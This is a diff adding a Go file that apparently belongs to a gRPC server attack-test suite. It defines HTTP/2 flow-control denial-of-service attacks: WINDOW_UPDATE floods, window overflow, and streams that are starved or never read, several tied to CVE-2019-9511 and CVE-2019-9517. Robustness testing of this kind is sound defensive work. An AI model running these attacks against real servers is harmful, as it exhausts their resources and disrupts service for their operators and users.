@@ -1,0 +1,125 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package kinds
+
+import (
+	"google.golang.org/grpc/attack/internal/attacker"
+	"google.golang.org/grpc/attack/internal/orders"
+	"google.golang.org/grpc/attack/internal/wire"
+)
+
+// windowKinds are attacks on a server with flow control (RFC 9113, 5.2), and by not reading.
+var windowKinds = []Kind{
+	{
+		Name:   "server/window/update-flood",
+		About:  "WINDOW_UPDATE of the connection",
+		Attack: flood(4, true, windowFlood),
+	},
+	{
+		Name:   "server/window/stream-update-flood",
+		About:  "WINDOW_UPDATE of 1 for a stream that is open",
+		Attack: onStreams(4, 1, orders.Deaf, frame(wire.WindowUpdate, 0, 1, wire.Uint32(1))),
+	},
+	{
+		Name:   "server/window/closed-update-flood",
+		About:  "WINDOW_UPDATE for a stream that is over",
+		Attack: onStreams(4, 1, "/no.Such/Method", frame(wire.WindowUpdate, 0, 1, wire.Uint32(1))),
+	},
+	{
+		Name:   "server/window/overflow",
+		About:  "a window of the connection above 2^31-1: a connection error each",
+		Attack: flood(16, true, overflow),
+	},
+	{
+		Name: "server/window/zero", Short: true,
+		About:  "1,000 streams that want answers without end, in windows of 0 (CVE-2019-9511)",
+		Attack: pouring(1, 1000, 0, true, nil),
+	},
+	{
+		Name:   "server/window/dribble",
+		About:  "100 streams that want answers without end, a byte at a time (CVE-2019-9511, CVE-2019-9517)",
+		Attack: pouring(1, 100, 0, true, dribble(100)),
+	},
+	{
+		Name:   "server/window/unread",
+		About:  "20 connections of 50 streams that want answers without end, windows of 2^31-1, nobody reads (CVE-2019-9517)",
+		Attack: pouring(20, 50, 1<<31-1, false, nil),
+	},
+	{
+		Name:   "server/window/one-connection-unread",
+		About:  "1,000 streams on one connection, windows of 2^31-1, nobody reads (CVE-2019-9517)",
+		Attack: pouring(1, 1000, 1<<31-1, false, nil),
+	},
+	{
+		Name:   "server/window/unary-unread",
+		About:  "echoes of 40 KB that nobody reads, in windows of 2^31-1",
+		Attack: flood(4, false, echoLarge),
+	},
+}
+
+func windowFlood(c *attacker.Conn) error { return c.Window(0, 1) }
+
+func overflow(c *attacker.Conn) error {
+	if err := c.Window(0, 1<<31-1); err != nil {
+		return err
+	}
+	return c.Flush()
+}
+
+// pouring opens streams on n connections that the server fills, in windows of a size.
+func pouring(n, open_ int, size uint32, reads bool, then script) attack {
+	return func(a *attacker.Attacker) error {
+		return a.Conns(n, func(c *attacker.Conn) error {
+			listen(c, reads)
+			if err := c.Settings(wire.Setting{ID: wire.InitialWindowSize, Value: size}); err != nil {
+				return err
+			}
+			if size > window {
+				if err := c.Window(0, size-window); err != nil {
+					return err
+				}
+			}
+			if _, err := open(c, open_, orders.Pour); err != nil {
+				return err
+			}
+			if then == nil {
+				c.Attacker().Sleep(a.Left() / 2)
+				return nil
+			}
+			return repeat(c, then)
+		})
+	}
+}
+
+// dribble hands out a byte to each of n streams.
+func dribble(n int) script {
+	return func(c *attacker.Conn) error {
+		for i := range n {
+			if err := c.Window(uint32(2*i+1), 1); err != nil {
+				return err
+			}
+		}
+		if err := c.Window(0, uint32(n)); err != nil {
+			return err
+		}
+		return c.Flush()
+	}
+}
+
+// echoLarge wants 40 KB back.
+func echoLarge(c *attacker.Conn) error {
+	id := c.Stream()
+	if id == 1 {
+		if err := c.Settings(wire.Setting{ID: wire.InitialWindowSize, Value: 1<<31 - 1}); err != nil {
+			return err
+		}
+		if err := c.Window(0, 1<<31-1-window); err != nil {
+			return err
+		}
+	}
+	if err := c.Headers(id, 0, wire.Request(orders.Echo)); err != nil {
+		return err
+	}
+	m := append([]byte{0x0a, 0xac, 0xbb, 0x02}, make([]byte, 40364)...)
+	return c.Data(id, wire.EndStream, wire.AppendMessage(nil, 0, m))
+}
